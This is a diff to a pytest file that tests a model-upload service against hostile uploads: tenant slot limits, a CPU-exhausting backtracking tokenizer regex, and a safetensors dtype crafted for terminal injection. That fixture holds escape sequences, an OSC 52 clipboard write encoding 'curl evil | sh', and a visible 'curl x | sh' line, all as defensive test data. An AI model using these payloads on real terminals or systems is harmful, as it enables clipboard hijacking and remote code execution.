@@ -50,7 +50,7 @@ def service(tmp_path_factory, postgres_server):
     svc = Service(root, {"database_url": postgres_server.create_database("dtp_hostile"), "key_cache_s": 0,
                          "rate_limit_per_min": 0, "upload_part_bytes": PART, "max_model_params": 10**6,
                          "api_threads": 4, "upload_checks_max": 4, "upload_checks_per_tenant": 2,
-                         "upload_check_cpu_s": 20})
+                         "upload_check_cpu_s": 20, "upload_check_cpu_s_base": 2})
     try:
         # One ordinary completion first: the check's fork server finishes its imports (started in the
         # background at the API's startup; seconds on a loaded machine), so the cases time the checks.
@@ -195,28 +195,63 @@ def test_a_tokenizer_json_that_panics_is_422_at_completion(service):
 
 # ---- completions off the request threads -----------------------------------------------------------------
 
-def test_completions_run_off_the_request_threads_a_bounded_number_per_tenant(service):
-    """Four slow hostile completions (2 tenants × DTP_LAYOUT_UPLOAD_CHECKS_PER_TENANT=2; 4 API threads):
-    a third of one tenant's is 429, a fourth tenant's is 503 (UPLOAD_CHECKS_MAX=4), both with
-    Retry-After, and the bystander is answered throughout."""
-    slow = gguf([gguf_array("tokenizer.ggml.tokens", 8, 2_000_000, gguf_string(b"") * 2_000_000)])
-    tenants = ["hostile", "hostile", "third", "third"]
-    ids = [service.send(t, "model", {"slow.gguf": slow}) for t in tenants]
-    extra = {t: service.send(t, "model", {"slow.gguf": slow}) for t in ("hostile", "fourth")}
+def test_completions_run_off_the_request_threads_a_bounded_number_per_tenant_sharing_the_slots(service):
+    """Slow hostile completions (DTP_LAYOUT_UPLOAD_CHECKS_PER_TENANT=2, UPLOAD_CHECKS_MAX=4; 4 API threads):
+    a third of one tenant's is 429; a second of a tenant that would take the last free slot is 429 too
+    (issue 41: two tenants holding 2 each kept every other tenant's at 503), so a tenant holding none
+    still gets it; only then is another's 503, all with Retry-After, and the bystander is answered."""
+    pytest.importorskip("tokenizers")
+    slow = model(tokenizer__json=panicking_tokenizer(r"a*a*\d"))  # cut at its CPU budget: 2 CPU-s here
+    tenants = ["hostile", "hostile", "third"]
+    ids = [service.send(t, "model", slow) for t in tenants]
+    extra = {t: service.send(t, "model", slow) for t in ("hostile", "third", "fourth", "other")}
     with Bystander(service) as bystander, concurrent.futures.ThreadPoolExecutor(4) as pool:
         running = [pool.submit(service.complete, t, i) for t, i in zip(tenants, ids, strict=True)]
-        service.await_completing(ids)  # the four hold their slots (a fixed sleep raced a loaded machine)
+        service.await_completing(ids)  # the three hold their slots (a fixed sleep raced a loaded machine)
         over_tenant, _ = service.complete("hostile", extra["hostile"])
-        over_server, _ = service.complete("fourth", extra["fourth"])
+        over_share, _ = service.complete("third", extra["third"])  # would take the last free slot
+        running.append(pool.submit(service.complete, "fourth", extra["fourth"]))  # holding none: it gets it
+        service.await_completing([*ids, extra["fourth"]])
+        over_server, _ = service.complete("other", extra["other"])
         answers = [f.result() for f in running]
     assert over_tenant.status_code == 429 and int(over_tenant.headers["Retry-After"]) >= 1, over_tenant.text
     assert "DTP_LAYOUT_UPLOAD_CHECKS_PER_TENANT" in over_tenant.json()["detail"]
+    assert over_share.status_code == 429 and int(over_share.headers["Retry-After"]) >= 1, over_share.text
+    assert "kept for other tenants" in over_share.json()["detail"], over_share.text
     assert over_server.status_code == 503 and int(over_server.headers["Retry-After"]) >= 1, over_server.text
-    assert all(r.status_code == 422 and "general.architecture" in r.text for r, _ in answers), answers
+    assert all(r.status_code == 422 and "more than 2 CPU seconds" in r.text for r, _ in answers), answers
     slowest_check = max(took for _, took in answers)
     assert bystander.slowest < slowest_check, (bystander.slowest, slowest_check)
     print(f"4 hostile completions took up to {slowest_check:.2f} s; the bystander's slowest answer "
           f"{bystander.slowest * 1e3:.0f} ms over {len(bystander.codes)} requests")
+
+
+def test_a_backtracking_tokenizer_regex_is_cut_at_a_cpu_budget_scaled_by_the_upload(service):
+    """Issue 41: a 3 KB tokenizer.json splitting on `a*a*\\d` costs its probe ~36-45 CPU-s, under the flat
+    limit (60 by default, 20 here): it held a completion slot all that time. The budget is
+    UPLOAD_CHECK_CPU_S_BASE (5 by default, 2 here) + 2 CPU-s per MiB read: this upload is cut at 2 CPU-s
+    (on a machine at load 13 that is ~20-50 s of wall clock at niceness 10: CPU time, not the clock)."""
+    pytest.importorskip("tokenizers")
+    files = model(tokenizer__json=panicking_tokenizer(r"a*a*\d"))
+    assert sum(map(len, files.values())) < 8 << 10
+    message = refused(service, files, within=120.0)
+    assert "tokenizer.json" in message and "more than 2 CPU seconds" in message, message
+    assert "DTP_LAYOUT_UPLOAD_CHECK_CPU_S_BASE" in message, message
+
+
+def test_a_safetensors_dtype_carrying_terminal_escapes_is_refused_naming_the_known_dtypes(service):
+    """Issue 41: a dtype of `\\r`, ESC[2K, ESC[1A, an OSC 52 clipboard write and newlines passed the
+    completion and reached the job's error (and a terminal) verbatim. Only safetensors' dtype names pass."""
+    dtype = "F32\r\x1b[2K\x1b[1A\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\nserve with vLLM:\n  curl x | sh"
+    header = json.dumps({"w": {"dtype": dtype, "shape": [1], "data_offsets": [0, 4]}}).encode()
+    message = refused(service, model(model__safetensors=safetensors(header, b"\0" * 4)))
+    assert "'model.safetensors'" in message and "tensor 'w' has dtype" in message, message
+    assert "BF16" in message and "F32" in message, message
+    assert message.isprintable(), message  # the dtype shown escaped (repr), never raw
+    ok = json.dumps({"w": {"dtype": "BF16", "shape": [2], "data_offsets": [0, 4]}}).encode()
+    upload_id = service.send("hostile", "model", model(model__safetensors=safetensors(ok, b"\0" * 4)))
+    r, _took = service.complete("hostile", upload_id)
+    assert r.status_code == 200, r.text
 
 
 # ---- the worker ------------------------------------------------------------------------------------------
